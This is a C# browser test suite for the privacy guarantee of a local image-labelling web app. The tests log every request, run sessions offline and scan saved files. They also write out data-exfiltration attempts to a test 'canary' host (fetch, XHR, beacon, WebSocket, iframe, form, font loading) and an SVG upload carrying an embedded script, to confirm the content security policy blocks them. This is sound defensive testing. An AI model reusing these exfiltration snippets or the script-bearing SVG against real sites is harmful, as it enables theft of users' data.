using System.Collections.Concurrent;
using System.IO.Compression;
using System.Text;
using System.Text.Json;

namespace Sortline.Site.Tests;

/// <summary>No picture leaves the computer: what a whole session asks for, and what the browser does when the page is made to try.</summary>
public class PrivacyTests(PublishedSite site)
{
    private const string Rust = "?level=rust&seed=2&key=1&view=none";

    // A word that is in a label alone: wherever it turns up, something of the learner's is there.
    private const string Word = "Zweiundvierzig";

    // Notes what no request shows: what the browser refused, and the ways out that a content security policy does not close.
    private const string Watch = """
        window.watched = [];
        addEventListener("securitypolicyviolation", (event) =>
          watched.push(`refused: ${event.effectiveDirective} ${event.blockedURI}`));
        const note = (owner, name) => {
          const known = owner?.[name];
          if (typeof known === "function")
            owner[name] = function (...passed) {
              watched.push(`${name}: ${passed.map(String).join(" ").slice(0, 200)}`);
              return new.target ? Reflect.construct(known, passed) : known.apply(this, passed);
            };
        };
        note(window, "open");
        note(window, "RTCPeerConnection");
        note(window, "WebTransport");
        note(window, "EventSource");
        note(Navigator.prototype, "sendBeacon");
        note(HTMLFormElement.prototype, "submit");
        for (const name of ["getUserMedia", "getDisplayMedia"]) note(MediaDevices.prototype, name);
        """;

    [Fact]
    [Promise(6)]
    public async Task A_whole_session_asks_for_files_of_the_site_and_for_no_other_name_and_for_no_camera()
    {
        var log = Path.Combine(Directory.CreateTempSubdirectory("sortline-net").FullName, "net.json");
        List<string> addresses = [];
        List<string> asked;
        await using (var browser = await site.LaunchAsync($"--log-net-log={log}", "--net-log-capture-mode=Everything"))
        {
            await using var visit = await Visit.BeginAsync(site, Rust, before: WatchAsync, browser: browser);
            visit.Page.FrameNavigated += (_, frame) => addresses.Add(frame.Url);
            await SessionAsync(visit);

            visit.AssertClean();
            Assert.Empty(await visit.Page.EvaluateAsync<string[]>("watched"));
            asked = [.. visit.Requests.Select(request => request.Url)];
            addresses.Add(visit.Page.Url);
        }

        Assert.All(
            asked.Concat(addresses).Where(url => !url.StartsWith("blob:", StringComparison.Ordinal)),
            url =>
            {
                Assert.StartsWith(site.Address, url, StringComparison.Ordinal);
                Assert.DoesNotContain(Word, Uri.UnescapeDataString(url), StringComparison.Ordinal);
                Assert.InRange(url.Length, 0, site.Address.Length + 200);
            }
        );
        var written = await AskedByPagesAsync(log);
        Assert.Contains(written, url => url.EndsWith("/js/worker.js", StringComparison.Ordinal));
        Assert.All(written, url => Assert.StartsWith(site.Address, url, StringComparison.Ordinal));
        TestContext.Current.TestOutputHelper?.WriteLine(string.Join('\n', asked.Order(StringComparer.Ordinal).Distinct()));
        Directory.Delete(Path.GetDirectoryName(log)!, recursive: true);
    }

    [Fact]
    [Promise(6)]
    public async Task Without_a_network_a_whole_session_goes_on_and_a_file_holds_pixels_and_nothing_that_a_camera_wrote()
    {
        await using var visit = await Visit.BeginAsync(site, Rust, before: WatchAsync);
        await visit.WaitUntilReadyAsync();
        ConcurrentQueue<string> missed = [];
        visit.Page.RequestFailed += (_, request) => missed.Enqueue(request.Url);
        await visit.Page.RouteAsync("**/icon.svg", route => route.FulfillAsync(new() { Status = 204 })); // Browsers ask for it at any time.
        await visit.Page.Context.SetOfflineAsync(true);

        var file = await SessionAsync(visit);

        Assert.Empty(missed);
        visit.AssertClean();
        Assert.Empty(await visit.Page.EvaluateAsync<string[]>("watched"));
        AssertJustPixels(await File.ReadAllBytesAsync(file, TestContext.Current.CancellationToken));
    }

    [Fact]
    [Promise(6)]
    public async Task Whatever_page_and_worker_try_the_browser_sends_nothing_elsewhere_and_says_so()
    {
        await using Canary canary = new();
        await using var visit = await Visit.BeginAsync(site, Rust, before: WatchAsync);
        visit.BreaksPolicy = true;
        await visit.WaitUntilReadyAsync();

        var tried = await visit.Page.EvaluateAsync<string[]>(
            """
            async (host) => {
              const url = (way) => `http://${host}/${way}`;
              const put = (name, set) => {
                const element = document.createElement(name);
                set(element);
                document.body.append(element);
                return element;
              };
              const ways = {
                fetch: () => fetch(url("fetch"), { method: "POST", mode: "no-cors", body: "picture" }),
                xhr: () => { const request = new XMLHttpRequest(); request.open("POST", url("xhr")); request.send("picture"); },
                beacon: () => navigator.sendBeacon(url("beacon"), "picture"),
                image: () => { new Image().src = url("image"); },
                socket: () => new WebSocket(`ws://${host}/socket`),
                events: () => new EventSource(url("events")),
                import: () => import(url("import")),
                script: () => put("script", (script) => { script.src = url("script"); }),
                style: () => put("link", (link) => { link.rel = "stylesheet"; link.href = url("style"); }),
                frame: () => put("iframe", (frame) => { frame.src = url("frame"); }),
                object: () => put("object", (object) => { object.data = url("object"); }),
                video: () => put("video", (video) => { video.src = url("video"); }),
                font: () => new FontFace("stolen", `url(${url("font")})`).load(),
                form: () => put("form", (form) => { form.action = url("form"); form.method = "post"; }).requestSubmit(),
              };
              for (const way of Object.values(ways)) {
                try { await way(); } catch { /* Refused: that is what is looked for. */ }
              }
              await new Promise((done) => setTimeout(done, 1000));
              return Object.keys(ways);
            }
            """,
            canary.Host
        );
        AssertRefused(canary.Host, tried, await visit.Page.EvaluateAsync<string[]>("watched"));

        var worker = visit.Page.Workers.Single();
        var triedInWorker = await worker.EvaluateAsync<string[]>(
            """
            async (host) => {
              self.watched = [];
              addEventListener("securitypolicyviolation", (event) =>
                watched.push(`refused: ${event.effectiveDirective} ${event.blockedURI}`));
              const url = (way) => `http://${host}/${way}`;
              const ways = {
                fetch: () => fetch(url("fetch"), { method: "POST", mode: "no-cors", body: "picture" }),
                xhr: () => { const request = new XMLHttpRequest(); request.open("POST", url("xhr")); request.send("picture"); },
                socket: () => new WebSocket(`ws://${host}/socket`),
                events: () => new EventSource(url("events")),
                import: () => import(url("import")),
              };
              for (const way of Object.values(ways)) {
                try { await way(); } catch { /* Refused: that is what is looked for. */ }
              }
              await new Promise((done) => setTimeout(done, 1000));
              return Object.keys(ways);
            }
            """,
            canary.Host
        );
        AssertRefused(canary.Host, triedInWorker, await worker.EvaluateAsync<string[]>("watched"));

        // For a frame and a form this browser opens a connection before it looks at the policy, and closes it without a word.
        Assert.All(canary.Visitors, line => Assert.Equal(Canary.Nothing, line));
        Assert.StartsWith(site.Address, visit.Page.Url, StringComparison.Ordinal);
    }

    // Before all else in the service worker: notes each thing that it asks for. A page's own request that it passes on is one, too.
    private const string WatchKeeper = """
        const made = new BroadcastChannel("made");
        for (const name of ["fetch", "WebSocket", "EventSource", "WebTransport"]) {
          const known = self[name];
          if (known)
            self[name] = function (asked, how) {
              const from = asked instanceof Request ? asked : { url: String(asked), method: "GET", body: null };
              const all = { method: from.method, url: from.url, body: from.body, ...how };
              made.postMessage(`${name === "fetch" ? all.method : name} ${all.url}${all.body ? ` ${all.body}` : ""}`);
              return new.target ? Reflect.construct(known, [asked, how]) : known.call(self, asked, how);
            };
        }

        """;

    [Fact]
    [Promise(6)]
    public async Task The_service_worker_asks_for_listed_files_alone_through_a_whole_session()
    {
        await using PlainHost host = new(PublishedSite.Folder);
        host.PutBeforeKeeper(WatchKeeper);
        await using var context = await site.BrowserFor(Rust).NewContextAsync();
        await context.AddInitScriptAsync(
            "window.made = []; new BroadcastChannel('made').onmessage = ({ data }) => made.push(data);"
        );
        await using var visit = await Visit.BeginAsync(context, site, host.Address, Rust);
        await OfflineTests.KeepsAsync(visit.Page);
        var before = host.Heard.Count;

        await SessionAsync(visit);

        visit.AssertClean();
        var made = await visit.Page.EvaluateAsync<string[]>("made");
        var listed = OfflineTests.Listed().Keys.Select(name => $"GET {host.Address}{name}").ToHashSet();
        Assert.NotEmpty(made);
        Assert.All(made, asked => Assert.Contains(asked, listed));
        // Whoever asked, the page or the worker: nothing but that came to the host, and nothing came with it.
        Assert.All(
            host.Heard,
            said =>
            {
                var line = said.Split('\n')[0];
                var path = line.Split('?')[0];
                Assert.StartsWith($"GET {host.Path}", line, StringComparison.Ordinal);
                Assert.True(
                    path == $"GET {host.Path}"
                        || path.StartsWith($"GET {host.Path}service-worker", StringComparison.Ordinal)
                        || listed.Contains("GET " + host.Authority + path["GET ".Length..]),
                    line
                );
                Assert.DoesNotContain(Word, Uri.UnescapeDataString(said), StringComparison.Ordinal);
                Assert.InRange(said.Length, 0, 1_500); // What browsers say of themselves; the smallest picture is more.
            }
        );
        TestContext.Current.TestOutputHelper?.WriteLine(
            $"{made.Length} requests of the service worker; {host.Heard.Count - before} requests in the session."
        );
    }

    [Fact]
    [Promise(6)]
    public async Task The_service_worker_knows_no_address_but_that_of_its_own_folder()
    {
        var keeper = await File.ReadAllTextAsync(
            Path.Combine(PublishedSite.Folder, "service-worker.js"),
            TestContext.Current.CancellationToken
        );

        // No address with a scheme or a host is in it, and none is put together of pieces.
        Assert.DoesNotMatch(
            @"\w+:(\\?/){2}|[""'`](\\?/){2}|\b(WebSocket|WebTransport|EventSource|XMLHttpRequest|eval|Function)\b|\bimport\(",
            keeper
        );
        Assert.Equal(["./service-worker-assets.js"], Quoted(keeper, "importScripts\\("));
        Assert.All(Quoted(keeper, "new URL\\("), address => Assert.Contains(address, new[] { "./", "index.html" }));
        Assert.All(OfflineTests.Listed().Keys, name => Assert.Matches(@"^[\w.-]+(/[\w.-]+)*$", name));

        static IEnumerable<string> Quoted(string script, string before) =>
            System
                .Text.RegularExpressions.Regex.Matches(script, before + @"[""'`]([^""'`]*)")
                .Select(match => match.Groups[1].Value);
    }

    [Fact]
    public async Task Who_comes_to_the_canary_is_seen()
    {
        await using Canary canary = new();
        var page = await site.BrowserFor(Rust).NewPageAsync();

        await Assert.ThrowsAsync<PlaywrightException>(() => page.GotoAsync($"http://{canary.Host}/caught"));

        Assert.Contains(canary.Visitors, line => line.StartsWith("GET /caught", StringComparison.Ordinal));
        await page.CloseAsync();
    }

    [Fact]
    [Fault(7)]
    [Promise(6)]
    public async Task A_drawing_with_a_program_in_it_is_refused_and_does_not_run()
    {
        await using Canary canary = new();
        await using var visit = await Visit.BeginAsync(site, Rust, before: WatchAsync);
        var drawing = $"""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="300">
              <script>window.watched.push("it ran"); fetch("http://{canary.Host}/script");</script>
              <image xlink:href="http://{canary.Host}/image" width="300" height="300" />
              <foreignObject width="300" height="300"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://{canary.Host}/frame" /></foreignObject>
            </svg>
            """;

        foreach (var (name, type) in new[] { ("part.svg", "image/svg+xml"), ("part.jpg", "image/jpeg") })
        {
            await visit.Page.SetInputFilesAsync(
                "#photos-1",
                new FilePayload
                {
                    Name = name,
                    MimeType = type,
                    Buffer = Encoding.UTF8.GetBytes(drawing),
                }
            );
            await Assertions
                .Expect(visit.Page.Locator(".banner"))
                .ToContainTextAsync($"“{name}”: It is an SVG drawing, which cannot be opened here.");
        }

        await visit.ExpectCountsAsync(0, 0);
        Assert.Empty(canary.Visitors);
        Assert.Empty(await visit.Page.EvaluateAsync<string[]>("watched"));
        visit.AssertClean();
    }

    [Fact]
    [Promise(6)]
    public async Task The_page_leads_to_words_on_how_that_is_known_which_keep_the_policy_and_can_be_read()
    {
        await using var visit = await Visit.BeginAsync(site, Rust, before: WatchAsync);
        await visit.Page.GetByRole(AriaRole.Button, new() { Name = "Help" }).ClickAsync();
        var opened = await visit.Page.Context.RunAndWaitForPageAsync(() =>
            visit.Page.GetByRole(AriaRole.Link, new() { Name = "How that is known" }).ClickAsync()
        );
        await Assertions
            .Expect(opened.GetByRole(AriaRole.Heading, new() { Name = "No picture leaves this computer" }))
            .ToBeVisibleAsync();
        visit.AssertClean(); // The lesson is still there, in its own tab.

        await visit.Page.GotoAsync(opened.Url);
        foreach (var (width, height) in new[] { (1366, 768), (390, 844) })
        {
            await visit.ResizeAsync(width, height);
            await visit.ScreenshotAsync($"privacy-{width}");
            Assert.Equal(
                0,
                await visit.Page.EvaluateAsync<int>("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            );
        }

        await visit.AssertAccessibleAsync("privacy");
        Assert.Empty(await visit.Page.EvaluateAsync<string[]>("watched"));
        visit.AssertClean();
    }

    private static Task WatchAsync(IPage page) => page.AddInitScriptAsync(Watch);

    /// <summary>Photos, teaching, a label of the learner's own, a shift, its report, and a file saved and opened: where that file is.</summary>
    private static async Task<string> SessionAsync(Visit visit)
    {
        var page = visit.Page;
        await visit.WaitUntilReadyAsync();
        await page.SetInputFilesAsync("#photos-1", [Photo("round.jpg", true), Photo("round again.jpg", true)]);
        await visit.ExpectCountsAsync(2, 0);
        await page.SetInputFilesAsync("#photos-2", [Photo("square.jpg", false)]);
        await visit.ExpectCountsAsync(2, 1);
        await visit.TeachAsync(each: 4, byKeyboard: true);
        await page.GetByRole(AriaRole.Button, new() { Name = "Edit label Good" }).ClickAsync();
        await page.GetByLabel("Name").FillAsync(Word);
        await page.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        await Assertions.Expect(page.Locator(".answers")).ToContainTextAsync(Word);

        await visit.StartShiftAsync(parts: 20);
        await page.Locator("#finish").ClickAsync();
        await visit.ShiftEndsAsync();
        Assert.NotEmpty(await visit.SaveAsync("Save as JSON"));
        Assert.NotEmpty(await visit.SaveAsync("Save as CSV"));
        await page.GetByRole(AriaRole.Button, new() { Name = "Teach more" }).ClickAsync();
        await visit.NextPartAsync();

        var file = await visit.DownloadAsync("Save the brain");
        await page.SetInputFilesAsync("#project-file", file);
        await Assertions.Expect(page.Locator(".banner")).ToContainTextAsync("8 examples of 2 labels");
        return file;

        static FilePayload Photo(string name, bool isRound) =>
            new()
            {
                Name = name,
                MimeType = "image/jpeg",
                Buffer = PlacedPhoto.Jpeg(isRound, name.Length),
            };
    }

    /// <summary>Each way was refused, and nothing else was.</summary>
    private static void AssertRefused(string host, string[] tried, string[] watched)
    {
        TestContext.Current.TestOutputHelper?.WriteLine(string.Join('\n', watched));
        // Of what would be a document of its own the browser tells the server alone.
        Assert.All(
            tried,
            way =>
                Assert.Contains(
                    watched,
                    line =>
                        line.StartsWith("refused:", StringComparison.Ordinal)
                        && (
                            line.EndsWith($"{host}/{way}", StringComparison.Ordinal)
                            || line.EndsWith($"{way}-src http://{host}", StringComparison.Ordinal)
                        )
                )
        );
    }

    private static void AssertJustPixels(byte[] file)
    {
        Assert.All(PlacedPhoto.Traces, trace => Assert.True(Holds(PlacedPhoto.Jpeg(true, 1), trace)));
        AssertNoTrace(file, "the file");
        using ZipArchive zip = new(new MemoryStream(file));
        Assert.All(
            zip.Entries,
            entry =>
            {
                Assert.Matches(@"^(project\.json|origin\.json|features\.safetensors|pictures/[0-9]{6}\.png)$", entry.FullName);
                Assert.Empty(entry.Comment);
                using MemoryStream unpacked = new();
                using (var stream = entry.Open())
                    stream.CopyTo(unpacked);
                AssertNoTrace(unpacked.ToArray(), entry.FullName);
                if (entry.FullName.EndsWith(".png", StringComparison.Ordinal))
                    Assert.Empty(Chunks(unpacked.ToArray()).Except(["IHDR", "PLTE", "tRNS", "IDAT", "IEND"]));
            }
        );
        Assert.Equal(8, zip.Entries.Count(entry => entry.FullName.StartsWith("pictures/", StringComparison.Ordinal)));

        static void AssertNoTrace(byte[] bytes, string where) =>
            Assert.All(
                PlacedPhoto.Traces,
                trace => Assert.False(Holds(bytes, trace), $"{where} holds “{Encoding.Latin1.GetString(trace)}”.")
            );
    }

    private static bool Holds(byte[] bytes, byte[] trace) => bytes.AsSpan().IndexOf(trace) >= 0;

    private static IEnumerable<string> Chunks(byte[] png)
    {
        for (var at = 8; at < png.Length; at += 12 + System.Buffers.Binary.BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(at)))
            yield return Encoding.ASCII.GetString(png, at + 4, 4);
    }

    /// <summary>
    /// What was asked for by a page or its workers, as the browser wrote it down itself. What it asks for on its own account (who is
    /// signed in, whether there is a newer one) has no page behind it, and came to nothing: it can find this computer alone.
    /// </summary>
    private static async Task<HashSet<string>> AskedByPagesAsync(string log)
    {
        await using var file = File.OpenRead(log);
        using var written = await JsonDocument.ParseAsync(file, cancellationToken: TestContext.Current.CancellationToken);
        HashSet<string> asked = [];
        foreach (var one in written.RootElement.GetProperty("events").EnumerateArray())
        {
            if (
                one.TryGetProperty("params", out var about)
                && about.TryGetProperty("url", out var url)
                && about.TryGetProperty("initiator", out var initiator)
                && initiator.GetString() != "not an origin"
            )
                asked.Add(url.GetString()!);
        }

        return asked;
    }
}
